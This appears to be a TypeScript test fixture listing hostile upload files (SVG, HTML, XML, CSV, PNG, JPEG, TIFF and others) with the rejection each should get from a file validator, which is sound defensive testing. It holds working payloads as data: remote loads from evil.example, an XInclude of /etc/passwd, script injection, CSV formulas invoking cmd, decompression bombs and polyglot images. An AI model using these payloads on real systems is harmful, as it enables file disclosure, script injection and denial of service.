import { deflateSync, gzipSync } from 'node:zlib'
import { jpegFile, pngFile, tiffFile } from '../files/image-file.ts'
import { allAs, type Hostile } from './hostile-file.ts'

// Pages, drawings and tables that ask elsewhere in ways of their own, and pictures with something behind them.

const svg = (content: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" ${attributes}>${content}</svg>`
const inclusion = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
const include = '<xi:include href="file:///etc/passwd" parse="text"/>'
const page = (content: string | Buffer) =>
  Buffer.concat([Buffer.from('<!doctype html>'), Buffer.from(content as string)])

const svgs: readonly Hostile[] = [
  ['loads a filter', svg('<filter><feImage href="http://evil.example/x"/></filter>'), 'markup-external'],
  ['is filled from elsewhere', svg('<rect fill="url(http://evil.example/x#a)"/>'), 'markup-external'],
  ['is filtered from elsewhere', svg('<rect filter="url(//evil.example/x#a)"/>'), 'markup-external'],
  ['has its addresses elsewhere', svg('<image href="a.png"/>', 'xml:base="http://evil.example/"'), 'markup-external'],
  ['loads a pointer', svg('<style>a{cursor:image-set("http://evil.example/x" 1x)}</style>'), 'markup-external'],
  ['loads a font', svg('<style>@font-face{font-family:x;src:url(http://evil.example/f)}</style>'), 'markup-external'],
  ['writes a style out', svg('<style>a{background:&#117;rl(http://evil.example)}</style>'), 'markup-external'],
  [
    'writes a style as data',
    svg('<style><![CDATA[a{background:url(http://evil.example)}]]></style>'),
    'markup-external',
  ],
  ['includes a file', svg(include, inclusion), 'markup-external'],
  ['runs later', svg('<set attributeName="onmouseover" to="alert(1)"/>'), 'markup-active'],
  ['is compressed', gzipSync(svg('', 'onload="alert(1)"')), 'type-not-accepted'],
]
const pages: readonly Hostile[] = [
  ['loads one of several pictures', page('<img srcset="a.png 1x, https://evil.example/1.png 2x">'), 'markup-external'],
  ['loads a source', page('<picture><source srcset="//evil.example/1.png"></picture>'), 'markup-external'],
  ['loads a module', page('<link rel=modulepreload href=//evil.example/x.js>'), 'markup-active'],
  ['asks for a name', page('<link rel=dns-prefetch href="//secret.evil.example">'), 'markup-active'],
  ['loads a sound of old browsers', page('<bgsound src=//evil.example/x>'), 'markup-external'],
  ['loads an island of data', page('<xml src="//evil.example/x"></xml>'), 'markup-external'],
  ['is read in UTF-7', page('<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-'), 'markup-encoding'],
  [
    'is read in an encoding that changes',
    page('<meta http-equiv=content-type content="text/html; charset=iso-2022-jp">'),
    'markup-encoding',
  ],
  ['has a script in a shadow', page('<template shadowrootmode=open><script>1</script></template>'), 'markup-active'],
  ['has a formula that runs', page('<math><mi xlink:href="javascript:alert(1)">x</mi></math>'), 'markup-active'],
  ['has a script that a field hides', page('<textarea><script>alert(1)</script></textarea>'), 'markup-active'],
  ['has a behaviour', page('<p style="behavior:url(x.htc)">'), 'markup-active'],
  ['has a zero in a tag', page(Buffer.from('<scr\0ipt>alert(1)</script>')), 'type-unknown'],
  [
    'is a mail with a page',
    'MIME-Version: 1.0\nContent-Type: text/html\n\n<html><script>alert(1)</script></html>',
    'markup-active',
  ],
]
const xmls: readonly Hostile[] = [
  ['includes a file', `<?xml version="1.0"?><x ${inclusion}>${include}</x>`, 'markup-external'],
  [
    'opens another program',
    '<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument/>',
    'markup-active',
  ],
  [
    'is a document that listens for its opening',
    '<?xml version="1.0"?><office:document><script:event-listener xlink:href="x"/></office:document>',
    'markup-active',
  ],
  [
    'hides entities in UTF-16 without a mark',
    Buffer.from('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f "x">]><x>&f;</x>', 'utf16le'),
    'type-unknown',
  ],
  ['is written in UTF-32', Buffer.from('3c0000003f00000078000000', 'hex'), 'type-unknown'],
]
const tables: readonly Hostile[] = [
  ['says by what its cells are separated', 'sep=|\nrecall|=HYPERLINK("http://evil.example")\n', 'formula-in-cell'],
  ['takes a cell of another table', 'a,=[http://evil.example/x.xlsx]S!A1\n', 'formula-in-cell'],
  ['takes a cell of a share', String.raw`a,='\\evil\[x.xlsx]S'!A1`, 'formula-in-cell'],
  ['takes a fixed cell', 'a,=$A$1\n', 'formula-in-cell'],
  ['has a formula behind a tab and blanks', 'a,"\t =1+1"\n', 'formula-in-cell'],
  ['has a formula behind a blank that is no break', 'a,\u00a0=1+1\n', 'formula-in-cell'],
  ['has a formula behind a wide blank', 'a,=\u3000SUM(1)\n', 'formula-in-cell'],
  ['asks another program, in full width', 'a,＋cmd|x!A\n', 'formula-in-cell'],
  ['has a formula after a line end in quotes', 'a,"x\r=1+1"\n', 'formula-in-cell'],
  [
    'is a table of another format',
    'TABLE\n0,1\n"EXCEL"\nDATA\n0,0\n""\n-1,0\nBOT\n1,0\n"=cmd|x!A0"\n-1,0\nEOD\n',
    'formula-in-cell',
  ],
]
const text = (type: string, before: string) =>
  pngFile(8, 8, [type, Buffer.concat([Buffer.from(before, 'latin1'), deflateSync(Buffer.alloc(60_000_000))])])
const sizes = (length: number, at: number) => {
  const chunk = Buffer.alloc(length)
  chunk.writeUInt32BE(100_000, at)
  chunk.writeUInt32BE(100_000, at + 4)
  return chunk
}
/** A TIFF of one directory with others within it, at these places. */
function tiffWithin(...places: readonly number[]): Buffer {
  const file = Buffer.concat([tiffFile([[8, 8]]), Buffer.alloc(64)])
  file.writeUInt16LE(330, 22)
  file.writeUInt32LE(places.length, 26)
  file.writeUInt32LE(places.length === 1 ? (places[0] ?? 0) : 48, 30)
  if (places.length > 1) for (const [index, place] of places.entries()) file.writeUInt32LE(place, 48 + index * 4)
  return file
}
const images = [
  ...allAs('scan.png', 'image/png', [
    ['has a text that is a bomb', text('zTXt', 'c\0\0'), 'content-beyond-limit'],
    ['has a profile that is a bomb', text('iCCP', 'p\0\0'), 'content-beyond-limit'],
    ['has a text of another language that is a bomb', text('iTXt', 'c\0\x01\0en\0c\0'), 'content-beyond-limit'],
    ['has two headers', pngFile(8, 8, ['IHDR', sizes(13, 0)]), 'content-malformed'],
    ['has a frame that is larger than it', pngFile(8, 8, ['fcTL', sizes(26, 4)]), 'image-pixels'],
    [
      'is a picture for telephones only',
      Buffer.concat([pngFile(8, 8).subarray(0, 8), Buffer.from('\0\0\0\x04CgBI'), Buffer.alloc(40)]),
      'type-unknown',
    ],
    [
      'is of a hospital',
      Buffer.concat([Buffer.alloc(128), Buffer.from('DICM'), Buffer.alloc(100)]),
      'type-not-accepted',
    ],
  ]),
  ...allAs('scan.jpg', 'image/jpeg', [
    [
      'has an archive of another kind behind it',
      Buffer.concat([jpegFile(8, 8), Buffer.from('526172211a070100', 'hex')]),
      'polyglot',
    ],
    ['has a 7z behind it', Buffer.concat([jpegFile(8, 8), Buffer.from('377abcaf271c0004', 'hex')]), 'polyglot'],
    [
      'has a program behind it',
      jpegFile(8, 8, { after: 'MZ\0\0!This program cannot be run in DOS mode.' }),
      'polyglot',
    ],
  ]),
  ...allAs('scan.tiff', 'image/tiff', [
    ['has a directory within it that is itself', tiffWithin(8), 'content-malformed'],
    ['has two directories within it that are one', tiffWithin(8, 8), 'content-malformed'],
    ['has a directory within it that is outside', tiffWithin(90_000), 'content-malformed'],
    [
      'has a million directories within it',
      (() => {
        const file = tiffWithin(8)
        file.writeUInt32LE(1_000_000, 26)
        return file
      })(),
      'content-malformed',
    ],
    [
      'is of the large kind',
      Buffer.from('49492b000800000010000000000000000000000000000000', 'hex'),
      'content-malformed',
    ],
  ]),
]
const others = [
  ...allAs('data.parquet', 'application/vnd.apache.parquet', [
    ['is of columns', Buffer.from('PAR1\x15\x04\0\0\0\0PAR1', 'latin1'), 'type-not-accepted'],
  ]),
  ...allAs('data.db', 'application/vnd.sqlite3', [
    ['is a database', Buffer.from('SQLite format 3\0\x10\0\x01\x01\0', 'latin1'), 'type-not-accepted'],
  ]),
  ...allAs('tool.wasm', 'application/wasm', [
    ['is a program of the web', Buffer.from('0061736d01000000', 'hex'), 'type-not-accepted'],
  ]),
  ...allAs('figures.iqy', 'text/plain', [
    ['asks a server when it is opened', 'WEB\n1\nhttp://evil.example/', 'extension-executable'],
  ]),
  ...allAs('report.library-ms', 'application/xml', [
    ['shows a folder of another machine', '<?xml version="1.0"?><x/>', 'extension-executable'],
  ]),
]

export const hiddenAddresses = [
  ...allAs('figure.svg', 'image/svg+xml', svgs),
  ...allAs('report.html', 'text/html', pages),
  ...allAs('results.xml', 'application/xml', xmls),
  ...allAs('results.csv', 'text/csv', tables),
  ...images,
  ...others,
]
